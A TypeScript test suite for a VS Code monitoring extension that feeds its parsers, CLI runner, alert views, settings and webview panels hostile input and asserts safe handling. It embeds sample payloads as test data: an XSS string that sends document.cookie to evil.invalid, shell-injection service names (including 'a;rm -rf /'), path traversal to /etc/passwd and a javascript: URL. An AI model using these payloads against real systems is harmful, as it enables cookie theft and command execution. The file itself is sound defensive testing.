// Hostile and bad input (issue 7): each case feeds the real parser, client, policy, tree node or
// panel something a broken or malicious workspace, backend or webview could send, and asserts the
// clear message a user sees — and that nothing crashes, nothing reaches a shell, no state is lost.
import './support/vscodeShim';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { AlertmanagerClient } from '../../src/clients/alertmanagerClient';
import { BackendClients, remoteBackends } from '../../src/clients/backendClients';
import { ComposeCliRunner, ComposeError, detectComposeCli, type ComposeProjectRef } from '../../src/clients/composeCli';
import { readComposeProject } from '../../src/clients/composeConfig';
import { loadComposeModels } from '../../src/clients/composeLifecycle';
import { appProjectRef } from '../../src/clients/composeProjects';
import { DockerClient } from '../../src/clients/dockerClient';
import { BackendError } from '../../src/clients/http';
import { LokiClient } from '../../src/clients/lokiClient';
import { PrometheusClient } from '../../src/clients/prometheusClient';
import { checkRemoteBackends, REMOTE_WARNED_KEY } from '../../src/notifications/remoteBackendWarning';
import { fromAlertmanager, type RealmAlert } from '../../src/core/alerts';
import { presentStatusBar } from '../../src/core/alertSummary';
import { RateLimiter } from '../../src/core/rateLimiter';
import { MAX_POINTS_PER_SERIES, pointCount } from '../../src/core/step';
import { HealActions } from '../../src/healer/actions';
import { AuditTrail } from '../../src/healer/auditTrail';
import { Healer } from '../../src/healer/healer';
import type { HealableAlert } from '../../src/healer/alertSource';
import { DEFAULT_HEALER_SETTINGS } from '../../src/core/healerSettings';
import { FakeClock } from '../support/fakeClock';
import { Emitter } from '../../src/platform/event';
import { memoryLogger } from '../support/memoryLogger';
import { InMemoryMemento } from '../support/inMemoryMemento';
import { readHealerSettings, readSettings } from '../../src/platform/settings';
import type { ExtensionMessage } from '../../src/shared/protocol';
import { isWebviewMessage } from './support/anyPanelMessage';
import { AlertDetailNode, AlertNode } from '../../src/views/alertNodes';
import { MetricsPanels } from '../../src/webviews/metricsPanel';
import { FakeLoki } from '../fakes/lokiFake';
import { MarkdownString } from './support/vscodeShim';
import { sample, SampleServer } from './support/sampleServer';
import { fakePanel, fakeUri } from './support/fakePanel';
import { readArgvLog } from '../support/argvLog';

const HTML = '<img src=x onerror="alert(1)"><script>fetch("https://evil.invalid/"+document.cookie)</script>';
const KB100 = 'x'.repeat(100 * 1024);
/** A service name a shell would execute three ways. Each marker file must never appear. */
const shellNames = (dir: string) => [
  `a;touch ${dir}/pwned-semicolon`,
  `$(touch ${dir}/pwned-dollar)`,
  `\`touch ${dir}/pwned-backtick\``,
  `b && touch ${dir}/pwned-and | cat > ${dir}/pwned-pipe`,
  'a;rm -rf /',
];

describe('Hostile and bad input: clear errors, no crash, no shell, no lost state', function () {
  this.timeout(60_000);
  let tmp: string;
  const servers: Array<{ stop(): Promise<void> }> = [];

  before(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'realm-hostile-'));
  });
  after(async () => {
    await Promise.all(servers.map((s) => s.stop()));
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  const write = (rel: string, text: string) => {
    const file = path.join(tmp, rel);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, text);
    return file;
  };

  // ---- compose files ---------------------------------------------------------------------------

  it("compose: malformed YAML names the file, line and column (compose's error, placed by our parser)", async () => {
    const file = write('malformed/compose.yaml', 'services:\n  web:\n    image: nginx\n   ports: [80\n');
    const runner = new ComposeCliRunner(await detectComposeCli());
    const err = await readComposeProject(runner, { files: [file], projectName: '', workingDir: path.dirname(file) }).then(
      () => undefined,
      (e: unknown) => e,
    );
    assert.ok(err instanceof ComposeError, `a ComposeError, got ${String(err)}`);
    assert.equal(err.kind, 'malformed-file');
    assert.equal(err.details.file, file);
    assert.equal(err.details.line, 4);
    assert.ok(typeof err.details.column === 'number' && err.details.column >= 1);
    assert.match(err.message, new RegExp(`^${file.replace(/[/.]/g, '\\$&')}:4:\\d+: `));
  });

  it('compose: depends_on naming an unknown service is refused with where it is written', async () => {
    const file = write('unknown-dep/compose.yaml', 'services:\n  web:\n    image: nginx\n    depends_on: [db, cache]\n  db:\n    image: postgres\n');
    const runner = new ComposeCliRunner(await detectComposeCli());
    await assert.rejects(readComposeProject(runner, { files: [file], projectName: '', workingDir: path.dirname(file) }), (e: ComposeError) => {
      assert.equal(e.message, `${file}:4:22: service "web" depends on undefined service "cache"`);
      assert.deepEqual([e.details.file, e.details.line, e.details.column], [file, 4, 22]);
      return true;
    });
  });

  it('compose: service names with shell metacharacters are parsed verbatim and reach the CLI as single argv elements, never a shell', async () => {
    const names = shellNames(tmp);
    const file = write('shell/compose.yaml', `services:\n${names.map((n) => `  ${JSON.stringify(n)}:\n    image: busybox\n`).join('')}`);
    const [model] = await loadComposeModels([file]);
    assert.deepEqual(
      model.services.map((s) => s.name),
      names,
      'names are kept byte for byte',
    );

    const { runner, argvLog } = fakeComposeCli(tmp);
    const project: ComposeProjectRef = { files: [file], projectName: 'hostile' };
    await runner.restart(project, names);
    await runner.up(project, { services: names });
    await runner.logs(project, { services: [names[1]], tail: 5 });
    const calls = argvLog();
    assert.equal(calls.length, 3);
    assert.deepEqual(calls[0], ['--ansi', 'never', '-p', 'hostile', '-f', file, 'restart', ...names]);
    assert.deepEqual(calls[1], ['--ansi', 'never', '-p', 'hostile', '-f', file, 'up', '-d', '--remove-orphans', ...names]);
    assert.equal(calls[2].at(-1), names[1]);
    const pwned = fs.readdirSync(tmp).filter((f) => f.startsWith('pwned'));
    assert.deepEqual(pwned, [], 'no shell interpreted a name');
  });

  it('compose: file paths and project names with metacharacters are passed as one argument each', async () => {
    const file = write(`odd dir $(touch ${tmp}/pwned-path)/compose.yaml`, 'services:\n  web:\n    image: busybox\n');
    const { runner, argvLog } = fakeComposeCli(tmp);
    await runner.ps({ files: [file], projectName: '`id`;x' });
    assert.deepEqual(argvLog()[0], ['--ansi', 'never', '-p', '`id`;x', '-f', file, 'ps', '-q']);
    assert.equal(fs.existsSync(path.join(tmp, 'pwned-path')), false);
  });

  it('compose: realm.composeFiles pointing outside the workspace is refused before anything reads it', async () => {
    const ws = path.join(tmp, 'ws', 'project');
    write('ws/project/compose.yaml', 'services:\n  web:\n    image: busybox\n');
    write('ws/secret.yml', 'services:\n  evil:\n    image: busybox\n');
    for (const entry of ['../../etc/x.yml', '../secret.yml', '/etc/passwd', `${ws}/../secret.yml`]) {
      assert.throws(
        () => appProjectRef(ws, { composeFiles: [entry], composeProjectName: '' }),
        (e: Error) => {
          assert.match(e.message, /^realm\.composeFiles: ".*" is outside the workspace folder .*; Realm only uses compose files inside the workspace/);
          assert.ok(e.message.includes(JSON.stringify(entry)), e.message);
          return true;
        },
        entry,
      );
    }
    fs.symlinkSync(path.join(tmp, 'ws', 'secret.yml'), path.join(ws, 'link.yml'));
    assert.throws(
      () => appProjectRef(ws, { composeFiles: ['link.yml'], composeProjectName: '' }),
      /"link\.yml" is outside the workspace folder/,
      'a symlink out of the folder',
    );
    const ok = appProjectRef(ws, { composeFiles: ['./compose.yaml'], composeProjectName: '' });
    assert.deepEqual(ok.files, [path.join(ws, 'compose.yaml')], 'a file inside is still used');
  });

  // ---- alerts --------------------------------------------------------------------------------

  const hostileAlert = (over: Partial<RealmAlert> = {}): RealmAlert => ({
    key: 'fp1',
    name: `Evil${HTML}\nSecondLine`,
    state: 'firing',
    severity: 'critical',
    labels: { alertname: `Evil${HTML}`, service: `web${HTML}\r\n`, instance: KB100 },
    annotations: { summary: `**bold** [link](command:realm.stackDown) ${HTML}\n${KB100}`, description: 'd' },
    since: Date.now() - 60_000,
    silencedBy: [],
    inhibitedBy: [],
    generatorURL: 'javascript:alert(1)',
    source: 'alertmanager',
    ...over,
  });

  it('alerts: labels and annotations from Alertmanager are kept verbatim (nothing interprets or drops them)', async () => {
    const body = (sample('am-alerts-firing').body as Array<Record<string, unknown>>).map((a) => ({
      ...a,
      labels: { alertname: `<script>x</script>`, service: 'a\nb', big: KB100, severity: 'CRITICAL' },
      annotations: { summary: HTML },
    }));
    const am = await startServer(new SampleServer().on('GET /api/v2/alerts', { status: 200, contentType: 'application/json', body }));
    const [raw] = await new AlertmanagerClient({ baseUrl: am.url }).alerts();
    const alert = fromAlertmanager(raw);
    assert.equal(alert.name, '<script>x</script>');
    assert.equal(alert.labels.big.length, KB100.length);
    assert.equal(alert.labels.service, 'a\nb');
    assert.equal(alert.annotations.summary, HTML);
    assert.equal(alert.severity, 'critical');
  });

  it('alerts: a tree node shows one plain, capped line; its tooltip escapes everything and enables no HTML or commands', () => {
    const node = new AlertNode(hostileAlert(), Date.now());
    assert.equal(typeof node.label, 'string');
    assert.doesNotMatch(String(node.label), /[\n\r]/);
    assert.ok(String(node.label).length <= 80);
    assert.doesNotMatch(String(node.description), /[\n\r]/);
    assert.ok(String(node.description).length <= 400, `description is capped (${String(node.description).length})`);
    const md = node.tooltip as unknown as MarkdownString;
    assert.ok(md instanceof MarkdownString);
    assert.notEqual(md.supportHtml, true, 'no HTML in the hover');
    assert.notEqual(md.isTrusted, true, 'no command links in the hover');
    const markdownParts = md.parts.filter((p) => p.kind === 'markdown').map((p) => p.value);
    for (const m of markdownParts)
      assert.ok(!m.includes('<') && !m.includes('Evil') && !m.includes('command:'), `untrusted text never goes in as markdown: ${m.slice(0, 80)}`);
    const shown = md.parts.map((x) => x.value).join('');
    assert.ok(shown.length < 3000, `the hover is capped (${shown.length} chars)`);
    assert.match(shown, /… \(100535 more characters\)$/);
    assert.equal(node.accessibilityInformation?.label.includes('\n'), false);
  });

  it('alerts: a 100 KB label value is cut for display but kept whole on the node (copy, silence)', () => {
    const alert = hostileAlert();
    const node = new AlertDetailNode(alert, 'label', 'instance', alert.labels.instance);
    assert.ok(String(node.description).length <= 200);
    assert.equal(typeof node.tooltip, 'string', 'a plain string tooltip, never markdown');
    assert.ok((node.tooltip as string).length < 2100);
    assert.match(node.tooltip as string, /… \(100400 more characters\)$/);
    assert.equal(node.value.length, KB100.length, 'the value itself is not lost');
    const html = new AlertDetailNode(alert, 'annotation', 'summary<b>', alert.annotations.summary);
    assert.equal(html.label, 'summary<b>');
    assert.doesNotMatch(String(html.description), /\n/);
  });

  it('alerts: the status-bar tooltip is plain text with control characters removed and lengths capped', () => {
    const p = presentStatusBar(
      {
        status: 'ok',
        alerts: [hostileAlert(), hostileAlert({ key: 'fp2', name: '\u001b]0;title\u0007\u202eevil' })],
        fallback: false,
        everReachable: true,
        alertmanagerUrl: 'http://127.0.0.1:9093',
      },
      Date.now(),
    );
    assert.equal(p.text, '$(bell) 2');
    assert.equal(typeof p.tooltip, 'string');
    const lines = p.tooltip.split('\n').slice(2);
    assert.equal(lines.length, 2, 'one line per alert: the embedded newlines did not add lines');
    for (const l of lines) assert.ok(l.length < 400, `capped: ${l.length}`);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(p.tooltip, /[\u0000-\u0009\u000b-\u001f\u007f]/);
  });

  it('alerts: a firing alert naming no watched service is skipped as not-watched, recorded once, and nothing is restarted', async () => {
    const engine = await startServer(
      new SampleServer()
        .on('GET /containers/json', { status: 200, contentType: 'application/json', body: [] })
        .on('GET /_ping', { status: 200, contentType: 'text/plain', body: 'OK' }),
    );
    const docker = new DockerClient({ dockerHost: engine.url.replace('http', 'tcp') });
    const state = new InMemoryMemento();
    const clock = new FakeClock();
    const logger = memoryLogger();
    const audit = new AuditTrail(state, clock, logger);
    const changed = new Emitter<void>();
    const alerts: HealableAlert[] = [
      { fingerprint: 'f1', labels: { alertname: 'ArcanumNeedsRestart', service: `ghost${HTML}\n${KB100}` }, startsAt: '2026-01-01T00:00:00Z' },
      { fingerprint: 'f2', labels: { alertname: 'ArcanumNeedsRestart', service: 'a;rm -rf /', compose_project: '$(id)' }, startsAt: '2026-01-01T00:00:00Z' },
    ];
    const healer = new Healer({
      docker,
      actions: new HealActions(docker),
      audit,
      clock,
      logger,
      rateLimiter: new RateLimiter(state, clock),
      settings: () => DEFAULT_HEALER_SETTINGS,
      projects: () => ['app'],
      engineEvents: () => ({ dispose: () => undefined }),
      alerts: { onDidChange: changed.event, firing: () => alerts },
    });
    try {
      await healer.start();
      await waitUntil(() => audit.entries().length === 2, 'two skips');
      changed.fire(); // the next poll: the same alerts again
      assert.equal(healer.isIdle(), false, 'the poll started an alert pass');
      await waitUntil(() => healer.isIdle(), 'the second alert pass to finish');
      const entries = audit.entries();
      assert.equal(entries.length, 2, 'each skip is recorded once, not on every poll');
      for (const e of entries) {
        assert.equal(e.outcome, 'skipped');
        assert.equal(e.reason, 'not-watched');
        assert.ok((e.detail ?? '').length < 300, `detail capped: ${e.detail?.length}`);
      }
      assert.match(entries[0].detail!, /^"ghost<img .*…" is not a service of the watched projects$/);
      assert.ok(JSON.stringify(state.get('realm.healer.auditTrail')).length < 5000, 'the 100 KB label did not land in workspace state');
      const manual = await healer.healAlert(alerts[1]);
      assert.equal(manual?.reason, 'not-watched');
      assert.deepEqual(
        engine.requests.filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.url.pathname}`),
        [],
        'no engine action was issued',
      );
    } finally {
      healer.dispose();
    }
  });

  // ---- PromQL / LogQL ------------------------------------------------------------------------

  it("PromQL: an invalid query shows Prometheus' own parse error", async () => {
    const prom = await startServer(new SampleServer().on('GET /api/v1/query', sample('prom-errors', 'bad_promql')));
    await assert.rejects(new PrometheusClient({ baseUrl: prom.url }).query('sum(rate(foo[5m]) by'), (e: BackendError) => {
      assert.equal(e.errorType, 'bad_data');
      assert.equal(e.serverMessage, 'invalid parameter "query": 1:19: parse error: unexpected <by> in aggregation');
      assert.match(e.message, /^prometheus answered 400: invalid parameter "query"/);
      return true;
    });
  });

  it('PromQL: an empty query gets the server\'s "no expression" error, not a crash', async () => {
    const prom = await startServer(new SampleServer().on('GET /api/v1/query', sample('prom-errors', 'missing_query_param')));
    await assert.rejects(new PrometheusClient({ baseUrl: prom.url }).query(''), /no expression found in input/);
  });

  it("PromQL: a 100 KB query goes as a POST form, whole, and the server's error reaches the Metrics panel", async () => {
    const prom = await startServer(new SampleServer().on('POST /api/v1/query_range', sample('prom-errors', 'bad_promql_brace')));
    const huge = `up{job="${KB100}"`;
    const message = { type: 'runMetricsQuery', requestId: 7, panelId: 'main', query: huge, range: { kind: 'relative', last: '1h' } };
    assert.equal(isWebviewMessage(message), true, 'a 100 KB query is a valid message (the panel must get an answer)');
    const logger = memoryLogger();
    const panels = new MetricsPanels({
      extensionUri: fakeUri('/ext'),
      logger,
      prometheus: () => new PrometheusClient({ baseUrl: prom.url }),
      grafana: () => ({ url: '', prometheusUid: 'p' }),
    });
    const fake = fakePanel();
    panels.revive(fake.panel);
    await fake.receive({ type: 'ready' });
    await fake.receive(message);
    assert.deepEqual(fake.posted, [
      { type: 'metricsError', requestId: 7, panelId: 'main', message: 'invalid parameter "query": 1:5: parse error: unexpected end of input inside braces' },
    ]);
    const req = prom.requests.at(-1)!;
    assert.equal(req.method, 'POST');
    assert.equal(req.url.search, '', 'nothing in the URL');
    assert.equal(new URLSearchParams(req.body).get('query'), huge, 'the query arrived whole');
    panels.dispose();
  });

  it("PromQL: a range that would exceed 11,000 points gets a step under the limit; a forced step gets the server's clear error", async () => {
    const prom = await startServer(
      new SampleServer().on('GET /api/v1/query_range', (req) =>
        pointCount(Number(req.url.searchParams.get('start')), Number(req.url.searchParams.get('end')), Number(req.url.searchParams.get('step'))) >
        MAX_POINTS_PER_SERIES
          ? sample('prom-errors', 'range_too_many_points')
          : { status: 200, contentType: 'application/json', body: { status: 'success', data: { resultType: 'matrix', result: [] } } },
      ),
    );
    const client = new PrometheusClient({ baseUrl: prom.url });
    const end = 1_795_867_654;
    const year = await client.queryRange('up', { start: end - 365 * 86_400, end });
    assert.ok(pointCount(end - 365 * 86_400, end, year.step) <= MAX_POINTS_PER_SERIES, `step ${year.step}`);
    await assert.rejects(client.queryRange('up', { start: end - 86_400, end, step: 1 }), (e: BackendError) => {
      assert.match(e.serverMessage ?? '', /exceeded maximum resolution of 11,000 points per timeseries/);
      return true;
    });
  });

  it("LogQL: invalid, empty and 100 KB queries each get Loki's own error text (the long one as a POST form)", async () => {
    const loki = new FakeLoki();
    await loki.start();
    servers.push(loki);
    const client = new LokiClient({ baseUrl: loki.url });
    const range = { startNs: '1', endNs: String(Date.now() * 1e6) };
    const errorOf = (query: string) =>
      client.queryRange({ query, ...range }).then(
        () => assert.fail('should fail'),
        (e: BackendError) => e,
      );
    const invalid = await errorOf('{compose_service="web"');
    assert.equal(invalid.status, 400);
    assert.match(invalid.message, /^loki answered 400: parse error/);
    const empty = await errorOf('');
    assert.equal(empty.status, 400);
    assert.ok(empty.serverMessage, 'an empty query has a message too');
    const huge = await errorOf(`{compose_service="web"} |= "${KB100}`);
    assert.equal(huge.status, 400, `Loki's parse error, not a 414/431: ${huge.message.slice(0, 120)}`);
    assert.equal(loki.requests.at(-1)!.method, 'POST');
    const ok = await client.queryRange({ query: `{compose_service="web"} |= "${KB100}"`, ...range });
    assert.equal(ok.resultType, 'streams', 'a long valid query runs');
  });

  // ---- settings ------------------------------------------------------------------------------

  it('settings: a non-loopback backend URL is warned about once per URL, across reloads', async () => {
    const state = new InMemoryMemento();
    const warnings: string[] = [];
    const urls = { prometheusUrl: 'http://127.0.0.1:9090', alertmanagerUrl: 'http://[::1]:9093', lokiUrl: 'http://localhost:3100' };
    const check = () => checkRemoteBackends({ settings: () => urls, state, warn: (m) => warnings.push(m) });
    assert.deepEqual(await check(), [], 'loopback URLs are not warned about');
    urls.prometheusUrl = 'http://prometheus.corp.example:9090';
    assert.deepEqual(await check(), ['Prometheus (http://prometheus.corp.example:9090)']);
    assert.equal(warnings.length, 1);
    assert.match(
      warnings[0],
      /^Realm: this workspace talks to Prometheus \(http:\/\/prometheus\.corp\.example:9090\), which is not on this machine\. .*fix the realm\.\*Url settings/,
    );
    await check();
    await checkRemoteBackends({ settings: () => urls, state: reload(state), warn: (m) => warnings.push(m) });
    assert.equal(warnings.length, 1, 'not again for the same URL, also after a reload');
    urls.lokiUrl = 'http://10.1.2.3:3100';
    assert.deepEqual(await check(), ['Loki (http://10.1.2.3:3100)'], 'a new remote URL is warned about');
    assert.equal(warnings.length, 2);
    assert.deepEqual(state.get(REMOTE_WARNED_KEY), ['Prometheus (http://prometheus.corp.example:9090)', 'Loki (http://10.1.2.3:3100)']);
  });

  it('settings: invalid backend URLs give a clear error naming the setting, never a crash', async () => {
    const bad = { prometheusUrl: 'localhost:9090', alertmanagerUrl: 'http//127.0.0.1:9093', lokiUrl: 'not a url', auth: {} };
    const clients = new BackendClients(() => bad); // constructing must not throw: activation goes on
    assert.deepEqual(remoteBackends(bad), [
      'Prometheus (invalid URL "localhost:9090")',
      'Alertmanager (invalid URL "http//127.0.0.1:9093")',
      'Loki (invalid URL "not a url")',
    ]);
    await assert.rejects(clients.prometheus.query('up'), (e: BackendError) => {
      assert.ok(e instanceof BackendError);
      assert.equal(e.message, 'prometheus URL "localhost:9090" is not a valid http(s) URL: fix realm.prometheusUrl (for example http://127.0.0.1:9090)');
      return true;
    });
    await assert.rejects(
      clients.alertmanager.alerts(),
      /alertmanager URL "http\/\/127\.0\.0\.1:9093" is not a valid http\(s\) URL: fix realm\.alertmanagerUrl/,
    );
    await assert.rejects(clients.loki.labels(), /loki URL "not a url" is not a valid http\(s\) URL: fix realm\.lokiUrl/);
    await assert.rejects(new PrometheusClient({ baseUrl: 'file:///etc' }).query('up'), /not a valid http\(s\) URL/);
  });

  it('settings: negative, zero and non-numeric intervals are clamped to the documented range', () => {
    const read = (values: Record<string, unknown>) => readSettings(((k: string, d: unknown) => (k in values ? values[k] : d)) as never);
    assert.equal(read({ pollIntervalSeconds: -5 }).pollIntervalSeconds, 1);
    assert.equal(read({ pollIntervalSeconds: 0 }).pollIntervalSeconds, 1);
    assert.equal(read({ pollIntervalSeconds: 1e9 }).pollIntervalSeconds, 300);
    assert.equal(read({ pollIntervalSeconds: Number.NaN }).pollIntervalSeconds, 2);
    assert.equal(read({ pollIntervalSeconds: '5; rm -rf /' }).pollIntervalSeconds, 2);
    assert.equal(read({ 'logs.tailBufferLines': -1 }).tailBufferLines, 100);
    const healer = readHealerSettings(
      ((k: string, d: unknown) =>
        (({ gracePeriodSeconds: -30, backoffSeconds: 'soon', maxActionsPerHour: 0, stopTimeoutSeconds: -1 }) as Record<string, unknown>)[k] ?? d) as never,
      true,
    );
    assert.equal(healer.graceMs, 30_000, 'negative grace → default');
    assert.equal(healer.backoffMs, 10_000);
    assert.equal(healer.maxActionsPerHour, 3);
    assert.equal(healer.stopTimeoutSeconds, 10);
  });

  it('settings: a hostile composeFiles/rules value of the wrong type is ignored, not executed', () => {
    const read = (values: Record<string, unknown>) => readSettings(((k: string, d: unknown) => (k in values ? values[k] : d)) as never);
    assert.deepEqual(read({ composeFiles: ['a.yml', 3, null, '  ', { f: 1 }] }).composeFiles, ['a.yml']);
    const healer = readHealerSettings(
      ((k: string, d: unknown) =>
        (
          ({
            rules: [
              { alertname: 'X', action: 'rm -rf /' },
              { alertname: 'Y', action: 'restart', matchers: { a: 1 } },
              { alertname: 'Z', action: 'cleanup' },
            ],
          }) as Record<string, unknown>
        )[k] ?? d) as never,
      true,
    );
    assert.deepEqual(healer.rules, [{ alertname: 'Z', action: 'cleanup' }], 'only well-formed rules with a known action survive');
  });

  // ---- webview messages ------------------------------------------------------------------------

  it('webview: messages that do not match the protocol are rejected', () => {
    const bad: unknown[] = [
      undefined,
      'ready',
      42,
      [],
      { type: '__proto__' },
      { type: 'constructor' },
      { type: 'runMetricsQuery' },
      { type: 'runMetricsQuery', requestId: 1.5, panelId: 'main', query: 'up', range: { kind: 'relative', last: '1h' } },
      { type: 'runMetricsQuery', requestId: 1, panelId: 'main', query: 'x'.repeat(600_000), range: { kind: 'relative', last: '1h' } },
      { type: 'runLogsQuery', requestId: 1, query: 'x', range: { kind: 'absolute', startMs: Number.NaN, endMs: 5 }, limit: 10, direction: 'backward' },
      { type: 'fetchLabelValues', label: { toString: () => 'x' } },
      { type: 'showContext', requestId: 1, labels: {}, tsNs: '1; rm -rf /', count: 5 },
      { type: 'openInGrafana', datasource: 'javascript', query: 'x', range: { kind: 'relative', last: '5m' } },
      { type: 'copy', text: 12 },
    ];
    for (const m of bad) assert.equal(isWebviewMessage(m), false, JSON.stringify(m)?.slice(0, 80));
  });

  it('webview: the panel drops and logs a malformed message and keeps serving the next good one', async () => {
    const prom = await startServer(
      new SampleServer().on('GET /api/v1/query_range', {
        status: 200,
        contentType: 'application/json',
        body: { status: 'success', data: { resultType: 'matrix', result: [] } },
      }),
    );
    const logger = memoryLogger();
    let fetched = 0;
    const panels = new MetricsPanels({
      extensionUri: fakeUri('/ext'),
      logger,
      prometheus: () => {
        fetched++;
        return new PrometheusClient({ baseUrl: prom.url });
      },
      grafana: () => ({ url: '', prometheusUid: 'p' }),
    });
    const fake = fakePanel();
    panels.revive(fake.panel);
    await fake.receive({ type: 'ready' });
    const cyclic: Record<string, unknown> = { type: 'copy' };
    cyclic.self = cyclic;
    for (const m of [{ type: 'runMetricsQuery', requestId: 'x' }, { type: 'exec', cmd: 'rm -rf /' }, cyclic, null]) await fake.receive(m);
    assert.equal(fetched, 1, 'only the ready message reached the panel logic');
    const dropped = logger.lines.filter((l) => l.includes('dropped a malformed message'));
    assert.equal(dropped.length, 4, logger.lines.join('\n'));
    assert.ok(dropped.every((l) => l.startsWith('[warn] metrics panel: dropped a malformed message: ') && l.length < 300));
    await fake.receive({ type: 'runMetricsQuery', requestId: 9, panelId: 'main', query: 'up', range: { kind: 'relative', last: '5m' } });
    assert.equal((fake.posted.at(-1) as ExtensionMessage).type, 'metricsResult', 'the panel still works');
    panels.dispose();
  });

  async function startServer<T extends SampleServer>(s: T): Promise<T> {
    await s.start();
    servers.push(s);
    return s;
  }
});

/** A `docker-compose` on PATH that records its argv (one JSON line per call) and exits 0. */
function fakeComposeCli(tmp: string): { runner: ComposeCliRunner; argvLog: () => string[][] } {
  const bin = fs.mkdtempSync(path.join(tmp, 'bin-'));
  const log = path.join(bin, 'argv.jsonl');
  fs.writeFileSync(
    path.join(bin, 'docker-compose'),
    `#!${process.execPath}\nrequire('fs').appendFileSync(process.env.REALM_ARGV_LOG, JSON.stringify(process.argv.slice(2)) + '\\n');\n`,
    { mode: 0o755 },
  );
  const runner = new ComposeCliRunner(
    { program: 'docker-compose', baseArgs: [], flavour: 'v1', version: '1.29.2' },
    {
      baseEnv: { ...process.env, PATH: `${bin}${path.delimiter}${process.env.PATH ?? ''}`, REALM_ARGV_LOG: log },
    },
  );
  const argvLog = () => readArgvLog(log);
  return { runner, argvLog };
}

/** A memento as a reloaded window sees it: the same stored JSON, a new object. */
function reload(state: InMemoryMemento): InMemoryMemento {
  const next = new InMemoryMemento();
  void next.update(REMOTE_WARNED_KEY, state.get(REMOTE_WARNED_KEY));
  return next;
}

async function waitUntil(check: () => boolean, what: string, timeoutMs = 10_000): Promise<void> {
  const end = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}
